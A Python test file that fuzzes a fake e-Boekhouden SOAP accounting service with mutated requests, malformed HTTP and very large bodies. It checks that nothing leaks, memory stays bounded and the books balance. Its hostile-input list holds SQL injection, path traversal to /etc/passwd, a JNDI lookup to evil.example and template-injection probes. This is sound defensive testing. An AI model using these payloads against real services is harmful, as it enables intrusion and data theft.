"""Twelve thousand hostile requests: each is answered, nothing leaks, and the books stay right."""

import logging
import random
import re
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import requests
from lxml import etree

from fakes.eboekhouden.books import Administration
from fakes.eboekhouden.envelope import SOAP_11, SOAP_12, Version
from fakes.eboekhouden.fake import EboekhoudenFake, OpenedAdministration
from fakes.eboekhouden.sample_messages import request as sample_request
from fakes.eboekhouden.service import OPERATIONS
from fakes.fast_serve import fast_serve
from fakes.serve import serve
from tests.fakes.eboekhouden.test_soap import HOSTILE
from tests.fakes.eboekhouden.wire import Wire

ROOT = Path(__file__).parents[3]
BOOKING = ("AddMutatie", "AddFactuur")
ROUNDS = 20
REQUESTS_A_ROUND = 600
SECONDS = 120
"""For what takes less than one: a request that is not answered is to fail by its name."""
PLACEHOLDERS = {
    "string": ["K1", "1300", "8020", "HOOG_VERK_21", "EX", "14", "Taart", "B", "VW"],
    "long": ["0", "1", "-1", "99999"],
    "dateTime": ["2017-10-19T00:00:00", "0001-01-01T00:00:00"],
    "decimal": ["82.64", "0", "-17.35"],
    "double": ["82.64", "1E3"],
    "boolean": ["true", "false"],
}
HOSTILE_TEXTS = [
    "",
    " ",
    "9" * 400,
    "1e999999",
    "NaN",
    "INF",
    "-0",
    "٣",
    "&amp;" * 50,
    "&#0;",
    "&#xD800;",
    "&undefined;",
    "]]>",
    "<![CDATA[<x>]]>",
    "<!-- -->",
    "<?xml version='1.0'?>",
    "<x/>" * 20,
    "\x00",
    "￿",
    "'; DROP TABLE mutaties; --",
    "../../etc/passwd",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "a" * 5000,
    "2017-02-30",
    "9999-12-31T23:59:59Z",
    "0001-01-01T00:00:00+14:00",
    "Memoriaal",
]


def filled(text: str, chance: random.Random) -> str:
    """Put plausible values where a sample message has placeholders."""
    text = re.sub(
        r">(\w+)( or \w+)+<", lambda found: f">{chance.choice(found[0][1:-1].split(' or '))}<", text
    )
    return re.sub(
        r">(string|long|dateTime|decimal|double|boolean)<",
        lambda found: f">{chance.choice(PLACEHOLDERS[found[1]])}<",
        text,
    )


def mutated(text: str, chance: random.Random) -> bytes:
    """Break a request in one to four ways that know its grammar, or do not."""
    for _ in range(chance.randint(1, 4)):
        text = chance.choice(WAYS)(text, chance)
    body = text.encode("utf-8", "surrogatepass")
    if chance.random() < 0.15:
        place = chance.randrange(len(body) + 1)
        body = body[:place] + bytes([chance.randrange(256)]) + body[place + 1 :]
    return body


def hostile_value(text: str, chance: random.Random) -> str:
    places = list(re.finditer(r">([^<>]*)</", text))
    if not places:
        return text
    place = chance.choice(places)
    return text[: place.start(1)] + chance.choice(HOSTILE_TEXTS) + text[place.end(1) :]


def other_tag(text: str, chance: random.Random) -> str:
    names = re.findall(r"<(\w[\w:]*)", text)
    if not names:
        return text
    return text.replace(chance.choice(names), chance.choice([*names, "x", "soap:Header"]), 2)


def without_a_part(text: str, chance: random.Random) -> str:
    start = chance.randrange(len(text) + 1)
    return text[:start] + text[start + chance.randint(1, 60) :]


def a_part_twice(text: str, chance: random.Random) -> str:
    places = list(re.finditer(r"<(\w+)>.*?</\1>", text, re.DOTALL))
    if not places:
        return text
    part = chance.choice(places)[0]
    return text.replace(part, part * chance.randint(2, 30), 1)


def cut_short(text: str, chance: random.Random) -> str:
    return text[: chance.randrange(len(text) + 1)]


def with_attributes(text: str, chance: random.Random) -> str:
    attribute = chance.choice(
        [' xsi:nil="true"', ' a="1" a="2"', ' xmlns="evil"', ' xml:lang="nl"', ' xmlns:soap="x"']
    )
    return text.replace(">", attribute + ">", chance.randint(1, 3))


def with_a_doctype(text: str, chance: random.Random) -> str:
    return '<!DOCTYPE x [<!ENTITY a "aaaa">]>' + text.replace("?>", "?>", 1)


WAYS = [
    hostile_value,
    hostile_value,
    hostile_value,
    other_tag,
    without_a_part,
    a_part_twice,
    cut_short,
    with_attributes,
    with_a_doctype,
]


@pytest.fixture
def quiet(caplog: pytest.LogCaptureFixture) -> Iterator[None]:
    """Fail when anything is logged: a hostile call is no event of ours."""
    caplog.set_level(logging.INFO)
    yield
    assert caplog.records == []


def state(books: Administration) -> tuple[Any, ...]:
    """Return everything that the books hold, to be compared."""
    return (
        books.next_mutation,
        books.mutations,
        dict(books.accounts),
        dict(books.relations),
        dict(books.invoices),
        {code: books.balance(code) for code in books.accounts},
    )


def envelope_of(operation: str, version: Version, wire: Wire, chance: random.Random) -> str:
    """Return a plausible request of an operation, in the session of a wire."""
    sample = sample_request(operation, version, "books.example").partition("\n\n")[2]
    for name, value in (("SessionID", wire.session_id), ("SecurityCode2", wire.code_2)):
        sample = sample.replace(f"<{name}>string</{name}>", f"<{name}>{value}</{name}>")
    return filled(sample, chance)


def send(wire: Wire, operation: str, version: Version, body: bytes) -> str:
    """Send a body; return the answer's text after what must hold for every answer."""
    answer = wire.post(operation, body, {"Content-Type": version.content_type})
    assert answer.status_code in (200, 400, 413, 415, 500), body
    for leak in ("Traceback", 'File "', "lxml", "spyne", "root:x:"):
        assert leak not in answer.text, body
    assert "unable to process request" not in answer.text, body
    if answer.status_code in (200, 500):
        etree.fromstring(answer.content)
    return answer.text


@pytest.mark.timeout(SECONDS)
@pytest.mark.parametrize("seed", range(ROUNDS))
def test_hostile_requests_leave_the_books_right(
    fake: EboekhoudenFake, opened: OpenedAdministration, quiet: None, seed: int
) -> None:
    chance = random.Random(seed)
    fake.settings.monthly_calls = None
    books: Administration = opened.administration
    wire, locked_out = Wire(fake, opened), Wire(fake, opened)
    locked_out.code_2 = "00000000-0000-0000-0000-000000000000"
    booked = 0
    for number in range(REQUESTS_A_ROUND):
        operation = chance.choice(OPERATIONS).name
        version = chance.choice([SOAP_11, SOAP_12])
        caller = chance.choice([wire, locked_out])
        body = mutated(envelope_of(operation, version, caller, chance), chance)
        if number % 40 == 0:
            body = chance.choice(list(HOSTILE.values()))[0]
        before = state(books)
        text = send(caller, operation, version, body)
        done = "<LastErrorCode></LastErrorCode>" in text and caller is wire
        if not (done and operation.startswith(("Add", "Update"))):
            assert state(books) == before, body
        grown = len(books.mutations) - len(before[1])
        assert grown in ((0, 1) if done and operation in BOOKING else (0,)), body
        booked += grown
    assert [mutation.number for mutation in books.mutations] == list(range(1, booked + 1))
    assert sum(books.balance(code) for code in books.accounts) == 0


CHILD = """
import resource
from fakes.eboekhouden.fake import EboekhoudenFake
from tests.fakes.eboekhouden.test_hostile import LARGEST, SOAP_11, Wire, send

def highest():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024

fake = EboekhoudenFake()
wire = Wire(fake, fake.open_administration("Demo BV"))
seen = [highest()]
for rounds in (4, 16):
    for body in LARGEST * rounds:
        send(wire, "AddMutatie", SOAP_11, body)
    seen.append(highest())
print(*seen)
"""
LARGEST = [
    b"<a>" + b"<b>x</b>" * 500_000 + b"</a>",
    b"<a>" * 1_300_000,
    b"<a " + b" ".join(b"x%d='1'" % number for number in range(300_000)) + b"/>",
    b"<a>" + b"x" * 4_000_000 + b"</a>",
]
"""Bodies as large as are taken: wide, deep, with many attributes, and one long text."""


def test_memory_stays_bounded_under_the_largest_requests() -> None:
    """In a process of its own, whose high-water mark is these requests' alone."""
    done = subprocess.run(
        [sys.executable, "-c", CHILD], capture_output=True, text=True, check=True, cwd=ROOT
    )
    idle, once, often = map(int, done.stdout.split())
    assert once - idle < 300, "megabytes for a request of four"
    assert often - once < 64, "megabytes that 64 more requests leave behind"


HEAD = b'POST /soap.asmx HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nSOAPAction: "x"\r\n'
BROKEN_HTTP: dict[str, bytes] = {
    "a body cut short": HEAD + b"Content-Length: 100\r\n\r\nabc",
    "a negative length": HEAD + b"Content-Length: -5\r\n\r\nabc",
    "no length": HEAD + b"Content-Length: abc\r\n\r\nabc",
    "a huge length": HEAD + b"Content-Length: 99999999999999999999\r\n\r\nabc",
    "bad chunks": HEAD + b"Transfer-Encoding: chunked\r\n\r\nZZ\r\nabc\r\n0\r\n\r\n",
    "a huge chunk": HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"F" * 40 + b"\r\nabc",
    "a long header": b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 200_000 + b"\r\n\r\n",
    "no HTTP": b"\x16\x03\x01\x02\x00hello\r\n\r\n",
    "a strange host": b"GET /soap.asmx?wsdl HTTP/1.1\r\nHost: <\"&'>\r\n\r\n",
}


@pytest.mark.timeout(SECONDS)
@pytest.mark.parametrize("server", [serve, fast_serve])
def test_broken_http_is_refused_and_the_next_call_answered(
    fake: EboekhoudenFake, wire: Wire, quiet: None, server: Any
) -> None:
    with server(fake.wsgi) as served:
        place = urlsplit(served.url)
        for name, sent in BROKEN_HTTP.items():
            with socket.create_connection((place.hostname, place.port)) as raw, suppress(OSError):
                raw.sendall(sent)
                raw.shutdown(socket.SHUT_WR)
                answer = b"".join(iter(lambda: raw.recv(65536), b""))  # used at once
                assert b"Traceback" not in answer, name
                assert b"Host: <" not in answer, name
                if name != "a strange host":
                    assert b" 200 " not in answer[:20], name
        url = f"{served.url}/soap.asmx"
        body = wire.envelope("GetAdministraties", "")
        headers = {"Content-Type": "text/xml"}
        assert "Demo BV" in requests.post(url, data=body, headers=headers, timeout=10).text
